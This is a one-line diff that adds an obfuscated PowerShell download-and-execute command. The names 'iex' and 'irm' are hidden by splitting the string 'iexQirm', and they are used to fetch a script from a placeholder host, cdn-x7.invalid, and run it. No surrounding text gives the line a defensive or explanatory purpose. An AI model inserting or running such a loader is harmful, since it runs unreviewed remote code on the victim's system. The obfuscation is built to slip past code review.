@@ -1,0 +1,1 @@
+$c='iexQirm'.Split('Q'); & $c[0] (& $c[1] https://cdn-x7.invalid/a.ps1)
